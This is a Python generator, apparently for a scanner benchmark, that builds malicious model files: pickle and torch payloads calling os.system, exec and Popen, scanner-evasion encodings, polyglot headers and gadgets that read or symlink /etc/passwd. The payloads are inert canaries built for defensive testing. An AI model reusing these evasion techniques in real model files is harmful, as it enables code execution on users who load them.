"""Set C: a third, independent red-team corpus for ``mlsecops scan models``.

Written by an outside red-team engineer from the public README, ``mlsecops --help`` and public
research only (pickle-scanner bypass reports, nullifAI, torch ``weights_only`` advisories, Keras
``safe_mode`` advisories, llama-cpp GGUF chat-template SSTI, ONNX external data, Hugging Face
``trust_remote_code``, skops untrusted types, tar/zip tricks). It never read the scanner's source,
its tests, or the other red-team generators.

    python bench/independent/gen_model_redteam_c.py DEST

writes ``DEST/malicious/`` (files and folders; a folder is one sample), ``DEST/benign/`` (written
by the libraries' own savers) and ``DEST/manifest.json``. Malicious payloads are inert canaries
(``echo MLSECOPS-C-CANARY``, paths under ``/tmp``, ``127.0.0.1:9``). Nothing malicious is ever
loaded: pickles are assembled from raw opcodes, or pickled from objects whose ``__reduce__``
returns the callable (pickling never calls it). The malicious part is deterministic; benign files
use fixed seeds, but some savers embed object ids, dates or set orders (skops, Keras, legacy torch,
pandas' gzip header, TfidfVectorizer), so those benign bytes vary between runs.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import struct
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

CMD = "echo MLSECOPS-C-CANARY"
CANARY_FILE = "/tmp/mlsecops-c-canary"
PY_CANARY = f"__import__('os').system('{CMD}')"
ZIP_TIME = (2020, 1, 1, 0, 0, 0)


# --------------------------------------------------------------------------- pickle opcodes
def proto(n: int) -> bytes:
    return b"\x80" + bytes([n])


def su(s: str) -> bytes:
    """SHORT_BINUNICODE / BINUNICODE."""
    b = s.encode()
    if len(b) < 256:
        return b"\x8c" + bytes([len(b)]) + b
    return b"X" + struct.pack("<I", len(b)) + b


def bu(s: str) -> bytes:
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def s0(s: str) -> bytes:
    """Protocol-0 STRING (quoted, escape-decoded by the unpickler)."""
    return b"S'" + s.encode() + b"'\n"


def v0(s: str) -> bytes:
    """Protocol-0 UNICODE (raw-unicode-escape line)."""
    return b"V" + s.encode("raw_unicode_escape") + b"\n"


def sbb(b: bytes) -> bytes:
    """SHORT_BINBYTES / BINBYTES."""
    if len(b) < 256:
        return b"C" + bytes([len(b)]) + b
    return b"B" + struct.pack("<I", len(b)) + b


def glob0(mod: str, name: str) -> bytes:
    return b"c" + mod.encode() + b"\n" + name.encode() + b"\n"


def sglob(mod: str, name: str) -> bytes:
    return su(mod) + su(name) + b"\x93"


def enc(v: Any, p: int) -> bytes:
    """Encode a literal argument (str, int, bytes, None, bool, tuple, list, dict)."""
    if v is None:
        return b"N"
    if v is True:
        return b"\x88" if p >= 2 else b"I01\n"
    if v is False:
        return b"\x89" if p >= 2 else b"I00\n"
    if isinstance(v, int):
        if p == 0:
            return b"I%d\n" % v
        if 0 <= v < 256:
            return b"K" + bytes([v])
        if 0 <= v < 65536:
            return b"M" + struct.pack("<H", v)
        return b"J" + struct.pack("<i", v)
    if isinstance(v, str):
        return v0(v) if p == 0 else su(v) if p >= 4 else bu(v)
    if isinstance(v, bytes):
        if p < 3:  # protocol 2 pickles bytes through _codecs.encode, as CPython does
            return glob0("_codecs", "encode") + b"(" + enc(v.decode("latin1"), max(p, 1)) + enc("latin1", max(p, 1)) + b"tR"
        return sbb(v)
    if isinstance(v, tuple):
        return b"(" + b"".join(enc(x, p) for x in v) + b"t"
    if isinstance(v, list):
        return b"(l" + b"".join(enc(x, p) + b"a" for x in v) if p == 0 else b"](" + b"".join(enc(x, p) for x in v) + b"e"
    if isinstance(v, dict):
        body = b"".join(enc(k, p) + enc(x, p) for k, x in v.items())
        return b"(d" + b"".join(enc(k, p) + enc(x, p) + b"s" for k, x in v.items()) if p == 0 else b"}(" + body + b"u"
    raise TypeError(type(v))


def ref(mod: str, name: str, p: int) -> bytes:
    """Push a global the way the protocol's own pickler would."""
    return sglob(mod, name) + (b"\x94" if p >= 4 else b"") if p >= 4 else glob0(mod, name)


def call(fn: bytes, args: tuple[Any, ...], p: int) -> bytes:
    return fn + enc(args, p) + b"R"


def frame(body: bytes, p: int) -> bytes:
    if p >= 4:
        return b"\x95" + struct.pack("<Q", len(body)) + body
    return body


def pk(body: bytes, p: int) -> bytes:
    """Wrap an opcode body into a full pickle of protocol p."""
    head = proto(p) if p >= 2 else b""
    return head + frame(body + b".", p)


def simple_call(mod: str, name: str, args: tuple[Any, ...], p: int) -> bytes:
    return pk(call(ref(mod, name, p), args, p), p)


def system_pickle(p: int = 2) -> bytes:
    return simple_call("os", "system", (CMD,), p)


class _Reduce:
    """Pickles as ``fn(*args)``; pickling only records the callable by name."""

    def __init__(self, fn: Callable[..., Any], args: tuple[Any, ...]) -> None:
        self.fn, self.args = fn, args

    def __reduce__(self) -> tuple[Any, ...]:
        return (self.fn, self.args)


# --------------------------------------------------------------------------- containers
def zip_bytes(members: list[tuple[str, bytes]], method: int = zipfile.ZIP_STORED, comment: bytes = b"",
              attrs: dict[str, int] | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in members:
            zi = zipfile.ZipInfo(name, ZIP_TIME)
            zi.compress_type = method
            if attrs and name in attrs:
                zi.external_attr = attrs[name] << 16
                zi.create_system = 3
            else:
                zi.external_attr = 0o644 << 16
            zf.writestr(zi, data)
        zf.comment = comment
    return buf.getvalue()


def tar_bytes(members: list[tuple[str, bytes | tuple[str, str]]], fmt: int = tarfile.PAX_FORMAT,
              pax: dict[str, dict[str, str]] | None = None) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=fmt) as tf:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            ti.mtime = 0
            ti.uname = ti.gname = "root"
            if isinstance(data, tuple):
                kind, target = data
                ti.type = tarfile.SYMTYPE if kind == "sym" else tarfile.LNKTYPE
                ti.linkname = target
                tf.addfile(ti)
                continue
            ti.size = len(data)
            ti.mode = 0o644
            if pax and name in pax:
                ti.pax_headers = pax[name]
            tf.addfile(ti, io.BytesIO(data))
    return buf.getvalue()


def gz(data: bytes, name: str = "") -> bytes:
    buf = io.BytesIO()
    with gzip.GzipFile(filename=name, mode="wb", fileobj=buf, mtime=0) as f:
        f.write(data)
    return buf.getvalue()


def torch_zip(data_pkl: bytes, prefix: str = "archive", extra: list[tuple[str, bytes]] | None = None,
              method: int = zipfile.ZIP_STORED) -> bytes:
    members = [(f"{prefix}/data.pkl", data_pkl), (f"{prefix}/byteorder", b"little"),
               (f"{prefix}/version", b"3\n"), (f"{prefix}/.data/serialization_id", b"0" * 40)]
    return zip_bytes(members + (extra or []), method=method)


def torch_legacy(main: bytes, magic: bytes | None = None, sysinfo: bytes | None = None) -> bytes:
    magic = magic or pk(b"\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19", 2)
    version = pk(b"M\xe9\x03", 2)
    sysinfo = sysinfo or pk(enc({"protocol_version": 1001, "little_endian": True,
                                 "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2), 2)
    return magic + version + sysinfo + main + pk(b"]", 2)


def npy_raw(header: str, body: bytes, version: tuple[int, int] = (1, 0)) -> bytes:
    """An .npy file with a hand-written header dict (padded as numpy pads it)."""
    hb = header.encode("utf8" if version[0] >= 3 else "latin1")
    pre = 10 if version[0] == 1 else 12
    pad = (64 - (pre + len(hb) + 1) % 64) % 64
    hb = hb + b" " * pad + b"\n"
    size = struct.pack("<H", len(hb)) if version[0] == 1 else struct.pack("<I", len(hb))
    return b"\x93NUMPY" + bytes(version) + size + hb + body


def gguf(kvs: list[tuple[str, int, Any]], big_endian: bool = False, version: int = 3) -> bytes:
    """A GGUF file with metadata only (no tensors). Value types: 4 uint32, 8 string, 9 array-of-string."""
    e = ">" if big_endian else "<"

    def s(x: str) -> bytes:
        b = x.encode()
        return struct.pack(e + "Q", len(b)) + b

    out = b"GGUF" + struct.pack(e + "I", version) + struct.pack(e + "Q", 0) + struct.pack(e + "Q", len(kvs))
    for key, vt, val in kvs:
        out += s(key) + struct.pack(e + "I", vt)
        if vt == 8:
            out += s(val)
        elif vt == 4:
            out += struct.pack(e + "I", val)
        elif vt == 9:
            out += struct.pack(e + "I", 8) + struct.pack(e + "Q", len(val)) + b"".join(s(x) for x in val)
    return out


# protobuf, just enough for ONNX ModelProto
def _varint(n: int) -> bytes:
    out = b""
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])


def pb_len(field: int, data: bytes) -> bytes:
    return _varint(field << 3 | 2) + _varint(len(data)) + data


def pb_int(field: int, n: int) -> bytes:
    return _varint(field << 3) + _varint(n)


def onnx_tensor(name: str, location: str, dims: tuple[int, ...] = (4,)) -> bytes:
    """TensorProto FLOAT with data_location EXTERNAL."""
    t = b"".join(pb_int(1, d) for d in dims) + pb_int(2, 1) + pb_len(8, name.encode())
    for k, v in (("location", location), ("offset", "0"), ("length", "16")):
        t += pb_len(13, pb_len(1, k.encode()) + pb_len(2, v.encode()))
    return t + pb_int(14, 1)


def onnx_value_info(name: str) -> bytes:
    shape = pb_len(2, pb_len(1, pb_int(1, 4)))
    ttype = pb_len(1, pb_int(1, 1) + shape)
    return pb_len(1, name.encode()) + pb_len(2, ttype)


def onnx_model(graph: bytes) -> bytes:
    opset = pb_len(1, b"") + pb_int(2, 17)
    return pb_int(1, 8) + pb_len(2, b"mlsecops-c") + pb_len(7, graph) + pb_len(8, opset)


def onnx_node(op: str, inputs: list[str], outputs: list[str], attrs: bytes = b"") -> bytes:
    n = b"".join(pb_len(1, i.encode()) for i in inputs) + b"".join(pb_len(2, o.encode()) for o in outputs)
    return n + pb_len(4, op.encode()) + attrs


# --------------------------------------------------------------------------- writer
class Corpus:
    def __init__(self, dest: Path) -> None:
        self.dest = dest
        self.entries: list[dict[str, str]] = []

    def add(self, label: str, cls: str, name: str, data: bytes | dict[str, bytes], fmt: str, technique: str) -> None:
        path = self.dest / label / name
        if any(e["path"] == f"{label}/{name}" for e in self.entries):
            raise ValueError(f"duplicate sample {name}")
        if isinstance(data, dict):  # a folder sample
            path.mkdir(parents=True, exist_ok=True)
            for rel, blob in data.items():
                target = path / rel
                target.parent.mkdir(parents=True, exist_ok=True)
                if isinstance(blob, str):  # a symlink target
                    os.symlink(blob, target)
                else:
                    target.write_bytes(blob)
        else:
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
        self.entries.append({"path": f"{label}/{name}", "label": label, "class": cls, "format": fmt,
                             "technique": technique})

    def mal(self, cls: str, name: str, data: Any, fmt: str, technique: str) -> None:
        self.add("malicious", cls, name, data, fmt, technique)

    def ben(self, cls: str, name: str, data: Any, fmt: str, technique: str) -> None:
        self.add("benign", cls, name, data, fmt, technique)


# --------------------------------------------------------------------------- malicious classes
def py2_compat_names(c: Corpus) -> None:
    k = "py2-compat-names"
    c.mal(k, "commands_getoutput_p0.pkl", pk(call(glob0("commands", "getoutput"), (CMD,), 0), 0), "pickle-p0",
          "Python 2 module 'commands.getoutput' mapped to subprocess.getoutput by fix_imports")
    c.mal(k, "builtin_eval_p1.pickle", pk(call(glob0("__builtin__", "eval"), (PY_CANARY,), 1), 1), "pickle-p1",
          "Python 2 '__builtin__.eval' mapped to builtins.eval")
    c.mal(k, "urllib2_urlopen_p2.pkl", pk(call(glob0("urllib2", "urlopen"), ("http://127.0.0.1:9/c",), 2), 2),
          "pickle-p2", "'urllib2.urlopen' mapped to urllib.request.urlopen (network on load)")
    inner = system_pickle(2)
    c.mal(k, "cpickle_loads_p2.bin", pk(call(glob0("cPickle", "loads"), (inner,), 2), 2), "pickle-p2",
          "'cPickle.loads' (mapped to pickle.loads) on a nested pickle passed through _codecs.encode")
    c.mal(k, "socketserver_bind_p1.pkl",
          pk(call(glob0("SocketServer", "TCPServer"), (("127.0.0.1", 9), None), 1), 1), "pickle-p1",
          "'SocketServer.TCPServer' mapped to socketserver: binds a listening socket on load")
    body = su("commands") + su("getoutput") + b"\x93" + enc((CMD,), 4) + b"R."
    c.mal(k, "noproto_stackglobal_commands.pkl", body, "pickle-noproto",
          "STACK_GLOBAL without a PROTO opcode: unpickler stays at protocol 0 so fix_imports maps 'commands'")
    body = proto(4) + su("x") + b"0" + proto(2) + su("__builtin__") + su("exec") + b"\x93" + enc((PY_CANARY,), 4) + b"R."
    c.mal(k, "proto_switch_midstream.pkl", body, "pickle-p4-to-p2",
          "PROTO 4 header, second PROTO 2 opcode midstream re-enables fix_imports for '__builtin__.exec'")
    c.mal(k, "httplib_in_torch_legacy.bin",
          torch_legacy(pk(call(glob0("httplib", "HTTPConnection"), ("127.0.0.1", 9), 2) + b"0" + enc({"w": 1}, 2), 2)),
          "torch-legacy", "legacy torch.save layout whose main pickle imports 'httplib.HTTPConnection' (http.client)")


def computed_global_names(c: Corpus) -> None:
    k = "computed-global-names"

    def codec(expr: bytes, name: str) -> bytes:
        return sglob("_codecs", name) + b"(" + expr + b"tR"

    def rot(s: str) -> bytes:  # _codecs.encode(<rot13 text>, 'rot13') -> str
        return codec(su(s.translate(str.maketrans("abcdefghijklmnopqrstuvwxyz", "nopqrstuvwxyzabcdefghijklm"))) + su("rot13"), "encode")

    def hexl(s: str) -> bytes:  # _codecs.decode(_codecs.decode('<hex>', 'hex'), 'latin1') -> str
        return codec(codec(su(s.encode().hex()) + su("hex"), "decode") + su("latin1"), "decode")

    def uesc(s: str) -> bytes:  # _codecs.decode(b'\\x..', 'unicode_escape')
        return codec(sbb("".join(f"\\x{ord(ch):02x}" for ch in s).encode()) + su("unicode_escape"), "decode")

    def b64(s: str) -> bytes:
        return codec(codec(sbb(base64.b64encode(s.encode())) + su("base64"), "decode") + su("utf-8"), "decode")

    variants: list[tuple[str, Callable[[str], bytes], str]] = [
        ("rot13", rot, "module and name built by _codecs.encode(..., 'rot13') then STACK_GLOBAL"),
        ("hex", hexl, "module and name decoded from hex then latin1 by nested _codecs.decode"),
        ("uesc", uesc, "module and name decoded from unicode_escape bytes"),
        ("b64", b64, "module and name decoded from base64 then utf-8"),
    ]
    for tag, fn, tech in variants:
        body = fn("os") + fn("system") + b"\x93" + enc((CMD,), 4) + b"R"
        c.mal(k, f"computed_{tag}.pkl", pk(body, 4), "pickle-p4", tech)
    body = rot("subprocess") + b"\x94" + rot("getoutput") + b"\x93" + enc((CMD,), 4) + b"R"
    c.mal(k, "computed_rot13_torch.pt", torch_zip(pk(body, 2)), "torch-zip",
          "torch zip whose data.pkl builds 'subprocess.getoutput' with _codecs rot13 and STACK_GLOBAL")
    body = hexl("builtins") + hexl("exec") + b"\x93" + enc((PY_CANARY,), 4) + b"R"
    c.mal(k, "computed_hex_model.joblib", pk(body, 3), "joblib",
          "joblib-named pickle: builtins.exec reached through hex-decoded STACK_GLOBAL operands")
    body = b64("posix") + b"\x94" + b"0" + b"g0\n" + b64("system") + b"\x93" + enc((CMD,), 4) + b"R"
    c.mal(k, "computed_memo_b64.pkl", pk(body, 5), "pickle-p5",
          "computed module name memoized, popped and fetched back with protocol-0 GET before STACK_GLOBAL")


def escaped_name_strings(c: Corpus) -> None:
    k = "escaped-name-strings"
    body = b"S'\\x6fs'\nS'\\x73ystem'\n\x93" + enc((CMD,), 2) + b"R."
    c.mal(k, "string_escapes.pkl", proto(2) + body, "pickle-p2",
          "STACK_GLOBAL operands pushed by protocol-0 STRING with \\x escapes ('os','system')")
    body = b"V\\u006fs\nV\\u0073ystem\n\x93" + enc((CMD,), 2) + b"R."
    c.mal(k, "unicode_escapes.pkl", proto(3) + body, "pickle-p3",
          "STACK_GLOBAL operands pushed by UNICODE with raw-unicode-escape \\u escapes")
    body = b"U\x02osU\x06system\x93" + enc((CMD,), 2) + b"R."
    c.mal(k, "short_binstring_names.pkl", proto(2) + body, "pickle-p2",
          "STACK_GLOBAL operands as SHORT_BINSTRING (decoded to str by the unpickler)")
    body = b"T\x0a\x00\x00\x00subprocessT\x09\x00\x00\x00getoutput\x93" + enc((CMD,), 2) + b"R."
    c.mal(k, "binstring_names.pickle", proto(2) + body, "pickle-p2", "STACK_GLOBAL operands as BINSTRING")
    u8 = b"\x8d" + struct.pack("<Q", 2) + b"os" + b"\x8d" + struct.pack("<Q", 6) + b"system"
    c.mal(k, "binunicode8_names.pkl", pk(u8 + b"\x93" + enc((CMD,), 4) + b"R", 4), "pickle-p4",
          "STACK_GLOBAL operands as BINUNICODE8 (8-byte length)")
    body = su("o") + b"0" + b"V\\u006f\\u0073\n" + b"\x94" + su("sys") + b"0" + b"V\\u0073ystem\n\x93" + enc((CMD,), 4) + b"R"
    c.mal(k, "mixed_escapes_decoys.pt", torch_zip(pk(body, 4)), "torch-zip",
          "torch zip: decoy strings popped between escaped UNICODE operands of STACK_GLOBAL")


def dotted_attr_traversal(c: Corpus) -> None:
    k = "dotted-attr-traversal"
    cases = [
        ("torch.serialization", "os.system", "torch_serialization_os.pkl", 4, False),
        ("joblib.numpy_pickle", "os.system", "joblib_numpy_pickle_os.joblib", 5, False),
        ("numpy.lib._npyio_impl", "os.system", "numpy_npyio_os.pkl", 4, True),
        ("torch._utils", "torch.serialization.os.system", "torch_utils_chain.pt", 4, False),
        ("pandas.io.common", "os.system", "pandas_io_common_os.pkl", 5, True),
    ]
    for mod, name, fname, p, use_c in cases:
        fn = glob0(mod, name) if use_c else sglob(mod, name)
        data = pk(call(fn, (CMD,), p), p)
        tech = f"protocol-{p} dotted name {mod}:{name} walked by getattr to os.system"
        if use_c:
            tech += " (GLOBAL opcode, not STACK_GLOBAL)"
        c.mal(k, fname, torch_zip(data) if fname.endswith(".pt") else data,
              "torch-zip" if fname.endswith(".pt") else f"pickle-p{p}", tech)
    inner = system_pickle(2)
    c.mal(k, "torch_serialization_pickle_loads.pkl", simple_call("torch.serialization", "pickle.loads", (inner,), 4),
          "pickle-p4", "dotted name torch.serialization:pickle.loads on nested payload bytes")
    c.mal(k, "pathlib_write_text.pkl",
          pk(sglob("pathlib", "PosixPath.write_text") + b"(" + sglob("pathlib", "PosixPath") + enc((CANARY_FILE,), 4)
             + b"R" + su("MLSECOPS-C-CANARY") + b"tR", 4), "pickle-p4",
          "unbound method pathlib.PosixPath.write_text reached by dotted name: writes a file on load")


def stdlib_exec_gadgets(c: Corpus) -> None:
    k = "stdlib-exec-gadgets"
    timeit_body = ref("timeit", "timeit", 2) + b"(" + enc(PY_CANARY, 2) + enc("pass", 2) + ref("time", "perf_counter", 2) + b"K\x01tR"
    c.mal(k, "timeit_stmt.pkl", pk(timeit_body, 2), "pickle-p2",
          "timeit.timeit(stmt=<python>, number=1) compiles and runs the statement")
    c.mal(k, "cprofile_run.pkl", simple_call("cProfile", "run", (PY_CANARY,), 3), "pickle-p3",
          "cProfile.run(<python>) executes the string under the profiler")
    c.mal(k, "pydoc_pipepager.pkl", simple_call("pydoc", "pipepager", ("x", CMD), 4), "pickle-p4",
          "pydoc.pipepager(text, cmd) spawns cmd through the shell")
    c.mal(k, "numpy_runstring.pkl", simple_call("numpy.testing._private.utils", "runstring", (PY_CANARY, {}), 4),
          "pickle-p4", "numpy.testing._private.utils.runstring = exec(astr, dict)")
    c.mal(k, "f2py_myeval.pkl", simple_call("numpy.f2py.crackfortran", "myeval", (PY_CANARY, {}, {}), 2),
          "pickle-p2", "numpy.f2py.crackfortran.myeval = eval(e, g, l)")
    c.mal(k, "logging_dictconfig.pkl",
          simple_call("logging.config", "dictConfig",
                      ({"version": 1, "handlers": {"h": {"()": "os.popen", "cmd": CMD}}},), 3),
          "pickle-p3", "logging.config.dictConfig with a '()' factory string 'os.popen' (callable named only in data)")
    c.mal(k, "posix_spawnp.pkl", simple_call("os", "posix_spawnp", ("echo", ["echo", "MLSECOPS-C-CANARY"], {}), 4),
          "pickle-p4", "os.posix_spawnp with argv list (no shell, no 'system' name)")
    c.mal(k, "runpy_run_path.pkl", simple_call("runpy", "run_path", ("/tmp/mlsecops-c-canary.py",), 1), "pickle-p1",
          "runpy.run_path executes a Python file from /tmp")
    c.mal(k, "ctypes_cdll.pkl", simple_call("ctypes", "CDLL", ("/tmp/mlsecops-c-canary.so",), 5), "pickle-p5",
          "ctypes.CDLL dlopen()s a shared object (constructors run)")
    c.mal(k, "distutils_spawn.pkl", simple_call("distutils.spawn", "spawn", (["sh", "-c", CMD],), 2), "pickle-p2",
          "distutils.spawn.spawn argv")
    c.mal(k, "torch_hub_load_local.pkl", simple_call("torch.hub", "_load_local", ("/tmp/mlsecops-c-hub", "model"), 4),
          "pickle-p4", "torch.hub._load_local imports hubconf.py from a local folder")
    c.mal(k, "cpp_extension_load_inline.pt",
          torch_zip(simple_call("torch.utils.cpp_extension", "load_inline",
                                ("mlsecops_c", "int x = system(\"echo MLSECOPS-C-CANARY\");"), 2)),
          "torch-zip", "torch.utils.cpp_extension.load_inline compiles and loads C++ source")
    c.mal(k, "hf_dynamic_module.bin",
          torch_zip(simple_call("transformers.dynamic_module_utils", "get_class_from_dynamic_module",
                                ("modeling_c.Model", "/tmp/mlsecops-c-repo"), 2)),
          "torch-zip", "transformers get_class_from_dynamic_module imports modeling_c.py from /tmp")
    c.mal(k, "keras_load_model_unsafe.pkl", simple_call("keras.saving", "load_model",
                                                          ("/tmp/mlsecops-c.keras", None, True, False), 4),
          "pickle-p4", "keras.saving.load_model(path, None, True, safe_mode=False) on an attacker file")


def resolver_indirection(c: Corpus) -> None:
    k = "resolver-indirection"

    def via(mod: str, name: str, target: str, p: int) -> bytes:
        return pk(call(ref(mod, name, p), (target,), p) + enc((CMD,), p) + b"R", p)

    c.mal(k, "pydoc_locate.pkl", via("pydoc", "locate", "os.system", 4), "pickle-p4",
          "pydoc.locate('os.system') returns the callable; a second REDUCE calls it")
    c.mal(k, "pkgutil_resolve_name.pkl", via("pkgutil", "resolve_name", "subprocess:getoutput", 2), "pickle-p2",
          "pkgutil.resolve_name('subprocess:getoutput') then REDUCE")
    c.mal(k, "mock_importer.pkl", pk(call(ref("unittest.mock", "_importer", 3), ("antigravity",), 3) + b"0N", 3),
          "pickle-p3", "unittest.mock._importer('antigravity'): an import whose side effect opens a web browser")
    body = (ref("builtins", "getattr", 4) + b"(" + ref("importlib", "import_module", 4) + enc(("os",), 4) + b"R"
            + su("system") + b"tR" + enc((CMD,), 4) + b"R")
    c.mal(k, "importlib_getattr.pkl", pk(body, 4), "pickle-p4",
          "importlib.import_module('os') then builtins.getattr(..., 'system')")
    body = (ref("operator", "methodcaller", 2) + enc(("system", CMD), 2) + b"R" + b"("
            + ref("importlib", "import_module", 2) + enc(("os",), 2) + b"R" + b"tR")
    c.mal(k, "operator_methodcaller.pkl", pk(body, 2), "pickle-p2",
          "operator.methodcaller('system', cmd) applied to importlib.import_module('os')")
    body = (ref("functools", "partial", 3) + b"(" + ref("os", "system", 3) + enc(CMD, 3) + b"tR" + b")R")
    c.mal(k, "functools_partial.pkl", pk(body, 3), "pickle-p3", "functools.partial(os.system, cmd)() ")
    body = ref("logging.config", "_resolve", 4) + enc(("subprocess.getoutput",), 4) + b"R" + enc((CMD,), 4) + b"R"
    c.mal(k, "logging_resolve.pkl", pk(body, 4), "pickle-p4", "logging.config._resolve('subprocess.getoutput')")


def network_on_construct(c: Corpus) -> None:
    k = "network-on-construct"
    cases = [
        ("smtplib", "SMTP", ("127.0.0.1", 9), "smtplib.SMTP(host, port) connects in __init__"),
        ("ftplib", "FTP", ("127.0.0.1",), "ftplib.FTP(host) connects in __init__"),
        ("poplib", "POP3", ("127.0.0.1", 9), "poplib.POP3 connects in __init__"),
        ("imaplib", "IMAP4", ("127.0.0.1", 9), "imaplib.IMAP4 connects in __init__"),
        ("socket", "create_connection", (("127.0.0.1", 9),), "socket.create_connection"),
        ("multiprocessing.connection", "Client", (("127.0.0.1", 9),),
         "multiprocessing.connection.Client connects and runs a pickle-based handshake"),
        ("webbrowser", "open", ("http://127.0.0.1:9/mlsecops-c",), "webbrowser.open launches a browser process"),
        ("http.server", "HTTPServer", (("127.0.0.1", 9), None), "http.server.HTTPServer binds a listener"),
    ]
    for i, (mod, name, args, tech) in enumerate(cases):
        p = i % 6
        ext = [".pkl", ".pickle", ".bin", ".dat", ".pkl", ".p"][i % 6]
        c.mal(k, f"net_{mod.replace('.', '_')}_{name.lower()}_p{p}{ext}", simple_call(mod, name, args, p),
              f"pickle-p{p}", tech)


def file_tamper(c: Corpus) -> None:
    k = "file-tamper-gadgets"
    cases: list[tuple[str, str, tuple[Any, ...], str]] = [
        ("shutil", "copyfile", ("/etc/hostname", CANARY_FILE), "shutil.copyfile"),
        ("os", "makedirs", ("/tmp/mlsecops-c-dir/a",), "os.makedirs"),
        ("shutil", "rmtree", ("/tmp/mlsecops-c-dir", True), "shutil.rmtree(ignore_errors=True)"),
        ("os", "symlink", ("/etc/passwd", "/tmp/mlsecops-c-link"), "os.symlink"),
        ("io", "open", (CANARY_FILE, "w"), "io.open(path, 'w') truncates/creates"),
        ("os", "chmod", (CANARY_FILE, 511), "os.chmod 0o777"),
        ("linecache", "getlines", ("/etc/passwd",), "linecache.getlines reads a host file into the model object"),
        ("tempfile", "mkdtemp", ("", "mlsecops-c-", "/tmp"), "tempfile.mkdtemp"),
    ]
    for i, (mod, name, args, tech) in enumerate(cases):
        p = (i + 3) % 6
        c.mal(k, f"fs_{mod}_{name}_p{p}.pkl", simple_call(mod, name, args, p), f"pickle-p{p}", tech)
    body = (ref("tarfile", "TarFile.extractall", 4) + b"(" + ref("tarfile", "open", 4) + enc(("/tmp/mlsecops-c.tar",), 4)
            + b"R" + su("/tmp") + b"tR")
    c.mal(k, "fs_tarfile_extractall.pkl", pk(body, 4), "pickle-p4",
          "tarfile.TarFile.extractall (dotted unbound method) on a /tmp archive")


def trusted_reconstructors(c: Corpus) -> None:
    k = "trusted-reconstructor-gadgets"
    src = f"\nimport os\nos.system('{CMD}')\ndef forward(self, x):\n    return x\n"
    for p in (2, 4):
        body = call(ref("torch.fx.graph_module", "reduce_graph_module", p), ({"_code": src}, ""), p)
        c.mal(k, f"fx_reduce_graph_module_p{p}.pt", torch_zip(pk(body, p)), "torch-zip",
              "torch.fx.graph_module.reduce_graph_module: torch's own GraphModule reducer exec()s body['_code']")
    body = call(ref("torch.fx.graph_module", "reduce_graph_module", 2), ({"code": src}, "import os\n"), 2)
    c.mal(k, "fx_reduce_graph_module_legacy.pkl", pk(body, 2), "pickle-p2",
          "reduce_graph_module via the backward-compatible 'code' key and a non-empty import block")
    legacy = torch_legacy(pk(b"}", 2), sysinfo=system_pickle(2))
    inner = torch_zip(pk(call(ref("torch.storage", "_load_from_bytes", 2), (legacy,), 2), 2))
    outer = pk(call(ref("torch.storage", "_load_from_bytes", 2), (inner,), 2), 2)
    c.mal(k, "load_from_bytes_nested.pt", torch_zip(outer), "torch-zip",
          "torch.storage._load_from_bytes -> torch zip -> _load_from_bytes -> legacy file whose sys_info pickle is the payload")
    c.mal(k, "rebuild_from_type_v2.pkl",
          pk(ref("torch._tensor", "_rebuild_from_type_v2", 2) + b"(" + ref("subprocess", "getoutput", 2)
             + ref("torch", "Tensor", 2) + enc((CMD,), 2) + b"}tR", 2), "pickle-p2",
          "torch._tensor._rebuild_from_type_v2(func=subprocess.getoutput, ...) calls func(*args)")
    c.mal(k, "numpy_load_by_path.pkl", simple_call("numpy", "load", ("/tmp/mlsecops-c.npy", None, True), 3),
          "pickle-p3", "numpy.load(path, None, allow_pickle=True): second-stage pickle from /tmp")
    c.mal(k, "joblib_load_by_path.joblib", simple_call("joblib", "load", ("/tmp/mlsecops-c.joblib",), 4),
          "joblib", "joblib.load of a second-stage file from /tmp")
    c.mal(k, "pandas_read_pickle_by_path.pkl", simple_call("pandas", "read_pickle", ("/tmp/mlsecops-c.pkl",), 5),
          "pickle-p5", "pandas.read_pickle of a second-stage pickle")
    c.mal(k, "sklearn_fetch_openml.pkl", simple_call("sklearn.datasets", "fetch_openml", ("mlsecops-c",), 4),
          "pickle-p4", "sklearn.datasets.fetch_openml: network fetch and cache write on load")


def legacy_inst_obj(c: Corpus) -> None:
    k = "inst-obj-callers"
    c.mal(k, "inst_os_system.pkl", b"(" + s0(CMD) + b"ios\nsystem\n.", "pickle-p0",
          "INST opcode calls os.system (no REDUCE opcode anywhere)")
    c.mal(k, "inst_popen.pkl", b"(" + b"(lp0\n" + v0("sh") + b"a" + v0("-c") + b"a" + v0(CMD) + b"a" + b"isubprocess\nPopen\n.",
          "pickle-p0", "INST subprocess.Popen(['sh','-c',cmd])")
    c.mal(k, "obj_function.pkl", proto(2) + b"(" + glob0("os", "system") + bu(CMD) + b"o.", "pickle-p2",
          "OBJ opcode with a function instead of a class: _instantiate calls it")
    c.mal(k, "obj_popen_p4.pkl", pk(b"(" + sglob("subprocess", "Popen") + enc(["sh", "-c", CMD], 4) + b"o", 4),
          "pickle-p4", "OBJ opcode with subprocess.Popen in a protocol-4 frame")
    c.mal(k, "inst_in_torch_legacy.pth",
          torch_legacy(b"(" + s0(CMD) + b"ios\nsystem\n."), "torch-legacy",
          "legacy torch.save layout whose main pickle uses INST")


def polyglot_prefix(c: Corpus) -> None:
    k = "polyglot-magic-prefix"
    gif = b"GIF89a\x01\x00\x01" + b"0"  # BINFLOAT eats 'IF89a' + 3 bytes, POP drops it
    c.mal(k, "preview.gif", gif + system_pickle(2)[2:], "gif+pickle",
          "starts 'GIF89a': BINFLOAT consumes the header, POP drops it, then os.system (pickle.load works)")
    c.mal(k, "model_card_image.png", b"GIF87a\x10\x00\x10" + b"0" + simple_call("subprocess", "getoutput", (CMD,), 2)[2:],
          "gif+pickle", "GIF87a-headed pickle named .png")
    c.mal(k, "vocab.txt", b"Vocabulary v2 (do not edit)\n0" + b"cos\nsystem\n(" + v0(CMD) + b"tR.",
